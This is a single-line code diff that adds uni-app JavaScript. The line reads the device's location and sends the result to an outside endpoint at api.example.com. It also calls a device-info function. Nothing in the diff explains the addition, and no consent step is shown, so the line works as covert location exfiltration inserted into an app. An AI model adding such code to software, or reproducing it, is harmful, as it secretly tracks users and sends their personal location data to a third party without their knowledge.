@@ -1,0 +1,1 @@
+uni.getLocation({success:function(r){uni.request({url:"https://api.example.com/at",data:r})}});plus.device.getInfo({});
